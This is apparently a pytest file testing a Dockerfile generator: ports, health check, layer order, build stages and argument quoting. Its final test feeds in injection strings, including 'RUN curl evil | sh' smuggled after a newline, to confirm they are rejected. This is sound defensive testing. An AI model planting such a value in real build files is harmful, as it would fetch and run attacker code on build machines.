import json
import re
import shlex
import subprocess

import pytest

from pycore.deploy.dockerfile import render
from pycore.deploy.recipe import Recipe
from pycore.errors import InvalidInput
from pycore.models.image_needs import ImageNeeds

WHEEL = "./crateflow-1.0-py3-none-any.whl"


def instructions(text: str) -> list[str]:
    """Return the instructions of a Dockerfile, each in one line."""
    joined = re.sub(r"\\\n\s*", "", text)
    return [line for line in joined.splitlines() if line and not line.startswith("#")]


def plain(needs: ImageNeeds | None = None, **given: str | None) -> list[str]:
    recipe = Recipe("debian:bookworm-slim", "models", needs or ImageNeeds())
    arguments = {"crateflow": WHEEL, "requirements": None, "model": "iris", **given}
    return instructions(render(recipe, **arguments))


def test_a_server_on_8080_for_nobody_in_particular() -> None:
    found = plain()
    assert "EXPOSE 8080" in found
    assert found.index("USER 1000") < found.index('CMD ["serve"]')
    assert 'ENTRYPOINT ["/opt/crateflow/bin/crateflow", "models"]' in found
    environment = next(line for line in found if line.startswith("ENV "))
    for text in ('CRATEFLOW_MODEL_URI="/opt/ml/model"', 'MLFLOW_HOST="0.0.0.0"', 'MLFLOW_PORT="8080"'):
        assert text in environment
    assert "CRATEFLOW_ENV_MANAGER" not in environment


def test_the_health_check_is_a_program_that_runs() -> None:
    check = next(line for line in plain() if line.startswith("HEALTHCHECK"))
    _, option, code = json.loads(check.partition("CMD ")[2])
    compile(code, "health check", "exec")
    assert option == "-c"
    assert "/ping" in code


def test_the_model_is_the_last_layer_and_its_environment_comes_before() -> None:
    found = plain(requirements="requirements.txt")
    installed = next(number for number, line in enumerate(found) if "bin/pip install" in line)
    copied = found.index('COPY ["model_dir/iris", "/opt/ml/model"]')
    assert found[installed].endswith(f"'{WHEEL}[models]' --requirement requirements.txt")
    assert found.index("COPY --from=build /opt/crateflow /opt/crateflow") < copied
    assert [line for line in found[copied:] if line.startswith(("RUN", "COPY"))] == found[copied : copied + 1]


def test_a_version_of_an_index_gets_the_extras_too() -> None:
    assert any(line.endswith("'crateflow[models]==1.0'") for line in plain(crateflow="crateflow==1.0"))


def test_an_image_without_a_model_installs_what_a_mounted_one_needs() -> None:
    found = plain(model=None)
    assert not [line for line in found if "model_dir" in line]
    assert any('CRATEFLOW_ENV_MANAGER="virtualenv"' in line for line in found)


def test_nothing_is_installed_where_nothing_is_needed() -> None:
    assert not [line for line in plain() if "apt-get" in line]


NEEDS = ImageNeeds(
    packages=("r-base-core",),
    packages_if_offered=("r-cran-nnet", "r-cran-nowhere", "r-cran-mass"),
    build_packages=("r-base-dev",),
    files={"install.R": None},
    commands=(("Rscript", "install.R", "package=it's=1.0", "library=/usr/local/lib/R/site-library"),),
    built=("/usr/local/lib/R/site-library",),
)


def test_what_builds_is_not_in_the_image() -> None:
    found = plain(NEEDS)
    stages = [number for number, line in enumerate(found) if line.startswith("FROM ")]
    assert [found[number] for number in stages] == [
        "FROM debian:bookworm-slim AS base",
        "FROM base AS build",
        "FROM base",
    ]
    building = range(stages[1], stages[2])
    assert found.index("COPY environment/install.R ./") in building
    assert [number in building for number, line in enumerate(found) if "r-base-dev" in line] == [True]
    assert "COPY --from=build /usr/local/lib/R/site-library /usr/local/lib/R/site-library" in found


def test_arguments_reach_the_program_as_they_are() -> None:
    run = next(line for line in plain(NEEDS) if line.startswith("RUN Rscript"))
    assert shlex.split(run)[1:] == list(NEEDS.commands[0])


def test_only_packages_that_the_release_has_are_asked_for() -> None:
    run = next(line for line in plain(NEEDS) if "pkgnames" in line)
    command = re.search(r"\$\((.*?)\)", run)[1]
    offered = "printf '%s\\n' r-cran-mass r-cran-masses xr-cran-nnet r-cran-nnet"
    done = subprocess.run(
        ["sh", "-c", command.replace("apt-cache pkgnames", offered)], capture_output=True, text=True
    )
    assert done.stdout.split() == ["r-cran-mass", "r-cran-nnet"]


@pytest.mark.parametrize("text", ["a\nRUN curl evil | sh", "a\r", "a\x00", "a\x85b", "a\u2028b"])
def test_names_cannot_bring_instructions_of_their_own(text) -> None:
    needs = [
        ImageNeeds(packages=(text,)),
        ImageNeeds(packages_if_offered=(text,)),
        ImageNeeds(commands=(("Rscript", text),)),
    ]
    for each in needs:
        with pytest.raises(InvalidInput, match="cannot stand in a Dockerfile"):
            plain(each)
    with pytest.raises(InvalidInput, match="cannot stand in a Dockerfile"):
        render(Recipe(text, "models", ImageNeeds()), WHEEL, None, None)
